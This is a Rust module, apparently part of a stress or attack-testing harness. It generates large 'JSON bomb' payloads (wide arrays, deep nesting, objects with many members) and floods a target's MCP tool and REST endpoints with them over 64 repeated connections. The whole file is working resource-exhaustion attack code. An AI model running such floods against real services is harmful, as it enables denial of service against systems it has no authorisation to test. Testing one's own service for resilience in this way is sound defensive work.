//! JSON that is small on the wire and large once it is parsed.

use std::sync::Arc;

use super::super::attacker::Field;
use super::super::crowd::{self, Plan, Reads};
use super::super::target::{self, Kind, Message};
use xtask::Result;

/// The length of one bomb, in bytes.
const LENGTH: usize = 3_600_000;
const AT_ONCE: usize = 64;

/// Sends the values as arguments of tools.
pub(super) fn mcp(field: &Field) -> Result<()> {
    let universe = field.target.universe(1)?;
    let message = |bomb: &str| match field.target.kind {
        Kind::Universe => target::modern_call(
            "send_universe_command",
            &format!(r#"{{"universeId":"{universe}","command":{{"type":"tick","x":{bomb}}}}}"#),
        ),
        Kind::Everything => {
            target::modern_call("json_schema_2020_12_tool", &format!(r#"{{"x":{bomb}}}"#))
        }
    };
    send(field, &message)
}

/// Sends the values as commands and as states.
pub(super) fn rest(field: &Field) -> Result<()> {
    let universe = field.target.universe(1)?;
    let message = |bomb: &str| {
        let (path, body) = if bomb.starts_with("[[") {
            let body = format!(r#"{{"name":"bomb","state":{{"x":{bomb}}}}}"#);
            ("/universes".to_owned(), body)
        } else {
            let body = format!(r#"{{"type":"tick","x":{bomb}}}"#);
            (format!("/universes/{universe}/commands"), body)
        };
        let mut message = target::post(target::json_headers(), body);
        message.path = path;
        message
    };
    send(field, &message)
}

fn send(field: &Field, message: &dyn Fn(&str) -> Message) -> Result<()> {
    let requests: Vec<Arc<[u8]>> =
        bombs().iter().map(|bomb| Arc::from(field.target.http1(&message(bomb)))).collect();
    crowd::run(
        field,
        &mut Plan {
            connections: AT_ONCE,
            payload: &mut |number| {
                let request = requests.get(number % requests.len());
                Ok(Arc::clone(request.ok_or("no bomb")?))
            },
            drip: b"",
            repeat: true,
            reads: Reads::All,
        },
    );
    Ok(())
}

/// Wide values of each kind, and deeply nested values.
fn bombs() -> Vec<String> {
    let deep = format!("{}{}", "[".repeat(100), "]".repeat(100));
    let objects = format!("{}0{}", r#"{"":"#.repeat(100), "}".repeat(100));
    let wide = [r#"{"":0}"#, "0", r#""""#, "[]", "{}", "1e9", deep.as_str(), objects.as_str()];
    let mut bombs: Vec<String> = wide
        .iter()
        .map(|value| {
            let values = vec![*value; LENGTH / (value.len() + 1)];
            format!("[{}]", values.join(","))
        })
        .collect();
    // One object with many members.
    let members: Vec<String> = (0..LENGTH / 12).map(|n| format!(r#""{n:07}":0"#)).collect();
    bombs.push(format!("{{{}}}", members.join(",")));
    bombs
}
